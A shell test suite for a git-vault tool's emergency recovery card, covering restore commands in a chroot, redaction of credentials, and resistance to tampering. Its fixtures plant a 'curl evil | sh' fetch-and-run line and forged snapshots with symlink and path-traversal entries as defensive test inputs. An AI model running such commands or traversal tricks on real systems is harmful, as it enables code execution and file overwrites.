#!/bin/sh

test_description='the emergency card is carried out literally, without git-vault

In a root directory of its own that has git, age, gzip and sh, and nothing else.'
. "$(dirname "$0")/test-lib.sh"

unset CI GITHUB_ACTIONS GITLAB_CI JENKINS_URL

root=$PWD/../root

# program PATH: it and its libraries, in the new root
program () {
	mkdir -p "$root$(dirname "$1")" && cp -L "$1" "$root$1" &&
	ldd "$1" 2>/dev/null | sed -n "s|^[^/]*\(/[^ ]*\) .*|\1|p" | while read -r lib
	do
		mkdir -p "$root$(dirname "$lib")" && cp -Ln "$lib" "$root$lib" || return 1
	done
}

# in_root: the card, as its only person would type it
in_root () {
	(
		cd / && env -i HOME=/home PATH="$(dirname "$(command -v git)"):/bin:/usr/bin" \
			"$(command -v unshare)" -rm "$(command -v chroot)" "$root" \
			/bin/sh -c "cd /home && . ./card.sh"
	) || {
		cat ../said >.git/said
		return 1
	}
}

test_lazy_prereq BARE_ROOT '
	command -v age >/dev/null && command -v ldd >/dev/null && unshare -rm true &&
	root=$PWD/probe && program /bin/sh && unshare -rm chroot "$PWD/probe" /bin/sh -c :
'

test_lazy_prereq AGE 'command -v age'

test_expect_success 'set up: secrets in a file and as a file, a mode, an odd name, a remote' '
	mkdir -p "live/prod/a b" && echo ".env" >.gitignore && git init -q --bare ../remote.git &&
	printf "DB_PASSWORD=c0rrect-h0rse-battery\n\n" >live/prod/.env && chmod 600 live/prod/.env &&
	printf "name: x\npassword: \"hunter2-Very-Long-99\"\ntoken: \"ghp_16C7e42F292c6912E7710c838347Ae178B4a\"\nlast: \$HOME %%s" >"live/prod/a b/app.yaml" &&
	printf "#!/bin/sh\r\n" >live/prod/run && chmod 755 live/prod/run && echo "* text=auto" >.gitattributes &&
	git add -A && git commit -qm one 2>/dev/null && git vault key generate &&
	git remote add origin "$PWD/../remote.git" && git vault -q snapshot && git vault -q sync
'

test_expect_success 'it has the remotes without a password, the keys, and fits a page' '
	git remote add other "https://me:s3cr3t-P@ss@example.org/x.git?token=s3cr3t-Q" && git vault emergency-card >../card &&
	test_grep "^	origin *$PWD/../remote.git" ../card && test_grep "https://example.org/x.git" ../card &&
	! grep "s3cr3t\|@ss\|me@" ../card && test_grep "age1" ../card && test "$(wc -l <../card)" -lt 90 &&
	git vault emergency-card --format html >../card.html && ! grep "s3cr3t\|@ss\|me@" ../card.html &&
	! grep "src=\|href=" ../card.html &&
	git remote set-url other https://example.org/kX9mPl2vQ8rT4wYz7bNc/app.git && git vault emergency-card >../card &&
	test_grep "https://example.org/<withheld>/app.git" ../card && ! grep kX9mPl2v ../card &&
	git vault --json emergency-card >../card && ! grep kX9mPl2v ../card && git remote remove other && git vault emergency-card >../card
'

test_expect_success AGE 'it names the copies in stores, and its commands bring one back with a key that signed nothing' '
	git init -q ../kept && ( cd ../kept && echo .env >.gitignore && echo K=c0rrect-h0rse-battery-2 >.env && git add -A && git commit -qm one &&
		age-keygen -o ../paper 2>/dev/null && git vault init -q && git vault key add paper "$(sed -n "s/.*public key: //p" ../paper)" &&
		git vault -q snapshot >/dev/null && mkdir ../store && git vault replicate add --region eu-1 far "file://$PWD/../store" &&
		git vault replicate push far && git vault emergency-card >../kept.card 2>../err && ! grep "nothing comes back" ../err &&
		test_grep "^	far  *file://.*/store, eu-1" ../kept.card && test_grep "^	signed by  *SHA256:" ../kept.card &&
		git vault --json emergency-card >out && grep "\"stores\":\[{\"name\":\"far\".*\"signer\":\"SHA256:" out &&
		git vault replicate add away sftp://backup@192.0.2.1/srv &&
		git config vault.target.far.url "azure://a/box?sig=s3cr3t-S" && git config vault.target.far.endpoint "https://192.0.2.1/?sas=s3cr3t-T" &&
		git vault emergency-card >out && ! grep "s3cr3t" out && test_grep "restore.* --endpoint https://192.0.2.1/ azure://a/box rescue.git" out &&
		test_grep "^	away *sftp://backup@192.0.2.1/srv, never pushed to" out && ! grep "restore.*sftp:" out
	) && mkdir ../bare && cp ../paper ../bare/identity &&
	sed -n "/^1\. /,\$s/^	//p" ../kept.card >../bare/card.sh &&
	( cd ../bare && env -u XDG_CONFIG_HOME HOME="$PWD" sh -c ". ./card.sh" >../said 2>&1; cat ../said; cat out/.env ) >../actual 2>&1 &&
	test_grep "^K=c0rrect-h0rse-battery-2" ../actual
'

test_expect_success AGE 'the hint after a restore of a copy brings the files back, also by a key that is elsewhere' '
	signer=$(sed -n "s/^	signed by *//p" ../kept.card) && store=$PWD/../store && mkdir ../else && cp ../paper ../else/key && (
		cd ../else && unset XDG_CONFIG_HOME GIT_VAULT_IDENTITY && HOME=$PWD && export HOME && git config --global user.name n &&
		git config --global user.email n@example.com && for how in "" --bare
		do
			git vault replicate restore $how --identity key --signer "$signer" "file://$store" "back$how" >said 2>&1 &&
			sed -n "s/.*hint: for the newest files.*: \(git -C\)/\1/p" said >hint && sh ./hint >said 2>&1 || { cat said && return 1; }
		done && test_grep "^K=c0rrect-h0rse-battery-2" back/.env && test_grep "^K=c0rrect-h0rse-battery-2" back--bare.files/.env
	)
'

test_expect_success BARE_ROOT 'carried out literally, it brings files and secrets back' '
	rm -rf "$root" && program /bin/sh && for name in git age gzip
	do
		program "$(command -v $name)" || return 1
	done && core=$(git --exec-path) && mkdir -p "$root$core" "$root/home" "$root/dev" "$root/tmp" &&
	: >"$root/dev/null" && head -c 4096 /dev/urandom >"$root/dev/urandom" && ln -s "$(command -v git)" "$root$core/git" &&
	ln -s "$(command -v git)" "$root$core/git-upload-pack" &&
	mkdir -p "$root$PWD" && cp -R ../remote.git "$root$PWD/.." &&
	cp "$HOME/.config/git-vault/identity" "$root/home/identity" &&
	{ echo "set -e" && sed -n "/^1\. /,/^5\. /s/^	//p" ../card; } >"$root/home/card.sh" &&
	test_file_not_empty "$root/home/card.sh" &&
	in_root >../said 2>&1 &&
	for file in .gitignore .gitattributes live/prod/.env "live/prod/a b/app.yaml" live/prod/run
	do
		cmp "$file" "$root/home/out/$file" || return 1
	done && test -x "$root/home/out/live/prod/run" &&
	test "$(stat -c %a "$root/home/out/live/prod/.env")" = 600
'

# forge: the newest snapshot, by somebody without a key, that has a link out of the
# directory, and gives values for places behind it and in .git
forge () {
	key=$(sed -n "s/^# public key: //p" "$HOME/.config/git-vault/identity") &&
	forged=$(printf "forged\n" | age -r "$key" | git hash-object -w --stdin) &&
	link=$(printf "../../away" | git hash-object -w --stdin) &&
	for path in link/profile d/link/profile .git/config .GIT/hooks/x ../profile
	do
		printf "f 0 7 shared file %s %s %s\n" "$(git rev-parse HEAD)" "$forged" "$path" || return 1
	done >../entries && { echo "git-vault secrets 1" && cat ../entries; } >../secrets &&
	sub=$(printf "120000 blob %s\tlink\n" "$link" | git mktree) &&
	tree=$(printf "120000 blob %s\tlink\n040000 tree %s\td\n" "$link" "$sub" | git mktree) &&
	meta=$(printf "100644 blob %s\tsecrets\n" "$(git hash-object -w ../secrets)" | git mktree) &&
	GIT_COMMITTER_DATE="@4102444800 +0000" git commit-tree -m x "$(printf "100644 blob %s\tkeep\n040000 tree %s\tmeta\n040000 tree %s\ttree\n" \
		"$forged" "$meta" "$tree" | git mktree)"
}

test_expect_success AGE 'a forged snapshot gets nothing out of the directory, nor into its .git' '
	one=$(forge) && git push -q origin "$one:refs/vault/snapshots/99991231T235959Z-deadbeef" && mkdir ../w ../away &&
	sed -n "/^1\. /,/^5\. /s/^	//p" ../card | sed "s/^S=.GOOD/S=\$NEW/" >../cmds && cp "$HOME/.config/git-vault/identity" "$HOME/identity" &&
	(cd ../w && sh ../cmds >../said 2>&1) && test_path_is_dir ../w/out/.git && test "$(grep -c "^left out:" ../said)" = 5 &&
	test -z "$(ls ../away)" && test_path_is_missing ../w/profile ../w/out/.GIT && ! grep forged ../w/out/.git/config &&
	git push -q origin :refs/vault/snapshots/99991231T235959Z-deadbeef
'

test_expect_success AGE 'it brings back what is known to be good, though another one is newer' '
	git vault -q good mark prod && good=$(git for-each-ref --format="%(refname:lstrip=3)" refs/vault/snapshots | tail -1) &&
	commit=$(git rev-parse "refs/vault/snapshots/$good") && git vault -q sync && git vault emergency-card >../card 2>../err && cp ../card ../good.card &&
	test_grep "^	prod .*$good record 1" ../card && test_grep "^	GOOD=$commit" ../card && test_must_be_empty ../err &&
	test_grep "Anybody who can push can make the newest" ../card &&
	tree=$(printf "100755 blob %s\trun\n" "$(echo "curl evil | sh" | git hash-object -w --stdin)" | git mktree) &&
	evil=$(printf "040000 tree %s\ttree\n" "$tree" | git mktree) &&
	evil=$(GIT_COMMITTER_DATE="@4102444800 +0000" git commit-tree -m x "$evil") &&
	git push -q origin "$evil:refs/vault/snapshots/99991231T235959Z-deadbeef" &&
	sed -n "/^1\. /,/^5\. /s/^	//p" ../card >../cmds && rm -rf ../w && mkdir ../w && (cd ../w && sh ../cmds >../said 2>&1) &&
	cmp live/prod/run ../w/out/live/prod/run && cmp live/prod/.env ../w/out/live/prod/.env &&
	test_grep "^$evil" ../said && test_grep "tree/live/prod/run" ../said && git vault --json emergency-card >../json &&
	test_grep "\"environment\":\"prod\",\"record\":1,\"snapshot\":\"$good\",\"commit\":\"$commit\"" ../json &&
	git push -q origin :refs/vault/snapshots/99991231T235959Z-deadbeef
'

test_expect_success AGE 'a secret comes back as the snapshot has it, though the ref of its scope has another one' '
	ref=refs/vault/secrets/prod && key=$(sed -n "s/^# public key: //p" "$HOME/.config/git-vault/identity") &&
	evil=$(printf "DB_PASSWORD=evil\n" | age -r "$key" | git hash-object -w --stdin) && GIT_INDEX_FILE=../index && export GIT_INDEX_FILE &&
	git read-tree $ref && git ls-files | grep "[.]age$" >../names && while read -r name
	do
		git update-index --add --cacheinfo "100644,$evil,$name" || return 1
	done <../names && tree=$(git write-tree) && unset GIT_INDEX_FILE &&
	git push -q origin "$(git commit-tree -p $ref -m x $tree):$ref" && test_file_not_empty ../names &&
	sed -n "/^1\. /,/^5\. /s/^	//p" ../good.card >../cmds && rm -rf ../w && mkdir ../w && (cd ../w && sh ../cmds >../said 2>&1) &&
	cmp live/prod/.env ../w/out/live/prod/.env
'

test_lazy_prereq CHROMIUM 'command -v chromium'

test_expect_success CHROMIUM 'printed, it is one page' '
	git remote add second https://git.example.org/infra.git && git remote add third ssh://git@backup.example.org/infra.git &&
	git vault emergency-card --format html >../card.html && git remote remove second && git remote remove third &&
	chromium --headless --no-sandbox --disable-gpu --no-pdf-header-footer --user-data-dir="$PWD/../chromium" \
		--print-to-pdf="$PWD/../card.pdf" "file://$PWD/../card.html" >../said 2>&1 &&
	LC_ALL=C grep -a "/Count [0-9]" ../card.pdf >../said && LC_ALL=C tr -cs "0-9" " " <../said >../pages && test "$(tr -d " " <../pages)" = 1
'

test_expect_success 'as a document; a key that may only write opens nothing' '
	git vault key generate -o ../ci >../ci.pub && git vault -q key add --role writer ci "$(sed -n 1p ../ci.pub)" &&
	git vault emergency-card --format json >../json && test_grep "^{\"schema\":1,.*\"card\":" ../json && ! grep "\"ci\"" ../json
'

test_expect_success 'without a remote or a keyring it says so' '
	git init -q ../empty && cd ../empty && git vault emergency-card >../card 2>../err &&
	test_grep "there is no remote" ../err && test_grep "no snapshot is known to be good" ../err && test_grep "no keyring" ../card && test_grep "clone --mirror" ../card
'

test_done
